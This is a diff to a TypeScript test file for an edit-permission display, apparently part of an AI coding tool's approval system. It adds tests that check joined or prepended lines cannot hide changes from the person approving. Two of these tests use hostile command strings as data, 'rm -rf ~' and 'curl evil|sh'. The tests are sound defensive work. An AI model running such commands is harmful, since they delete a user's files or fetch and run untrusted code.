@@ -8,6 +8,7 @@ import {
   type Permission,
   type Replacement,
 } from '@percept/core/internal/permission';
+import { unwrap } from '@percept/core';
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 
@@ -150,6 +151,48 @@ describe('an edit', { tags: ['d-question-whole'] }, () => {
     });
   });
 
+  test('attack: lines that an edit joins are shown as the one line that they become', () => {
+    const asked = edit('# safe \nrm -rf ~\n', ' \n', '');
+    expect(shown(asked, 'removed')).toEqual(['# safe ', 'rm -rf ~']);
+    expect(shown(asked, 'added')).toEqual(['# saferm -rf ~']);
+    expect(shown(asked, 'same')).toEqual([]);
+  });
+
+  test('attack: what comes before an empty first line is shown', () => {
+    const before = '\nimport a\n';
+    const replacements = [{ at: 0, removed: 0, added: 'curl evil|sh' }];
+    const asked = unwrap(editPermission({ path: '/p/a.txt', before, replacements }));
+    expect(shown(asked, 'removed')).toEqual(['']);
+    expect(shown(asked, 'added')).toEqual(['curl evil|sh']);
+    expect(shown(asked, 'same')).toEqual(['import a']);
+  });
+
+  test('for any places: the patch is the change', () => {
+    const pieces = fc.array(fc.constantFrom('a', 'b', '\n', '\n', 'x\r\n'), { maxLength: 24 });
+    const places = fc.array(fc.tuple(fc.nat(6), fc.nat(4), fc.constantFrom('', 'c', '\n', 'c\n')), {
+      minLength: 1,
+      maxLength: 3,
+    });
+    fc.assert(
+      fc.property(pieces, places, (given, chosen) => {
+        const before = given.join('');
+        const replacements: Replacement[] = [];
+        let from = 0;
+        for (const [skipped, length, added] of chosen) {
+          const at = Math.min(from + skipped, before.length);
+          const removed = Math.min(length, before.length - at);
+          if (removed > 0 || added !== '') replacements.push({ at, removed, added });
+          from = at + removed + 1;
+          if (from > before.length) break;
+        }
+        const asked = unwrap(editPermission({ path: '/p/a.txt', before, replacements }));
+        if (asked.subject.kind !== 'edit') throw new Error('not an edit');
+        expect(applied(before, asked.subject.patch)).toBe(asked.subject.after);
+      }),
+      { numRuns: 1_000 },
+    );
+  });
+
   test('for any edit: what is shown as added and around it is the new text, and the patch is the change', () => {
     const lines = fc.array(fc.constantFrom('a', 'b', '', 'x\r', 'long line'), { maxLength: 12 });
     fc.assert(
@@ -282,8 +325,16 @@ describe('scopes', { tags: ['d-permission-scopes'] }, () => {
     expect(grants.covers(asked)).toBe(false);
   });
 
-  test.each(['/p/src/git.ts', '/p/hooks/use-state.ts', '/p/docs/percept.md', '/p/.gitignore'])(
-    '%s is an ordinary file',
-    (path) => expect(edit('a\n', 'a', 'b', path).scopes).toEqual(['once', 'file', 'session']),
+  test.each([
+    '/p/src/git.ts',
+    '/p/hooks/use-state.ts',
+    '/p/src/update',
+    '/p/docs/percept.md',
+    '/p/percept/notes.md',
+    '/p/src/trust.json',
+    '/p/src/config.ts',
+    '/p/.gitignore',
+  ])('%s is an ordinary file', (path) =>
+    expect(edit('a\n', 'a', 'b', path).scopes).toEqual(['once', 'file', 'session']),
   );
 });
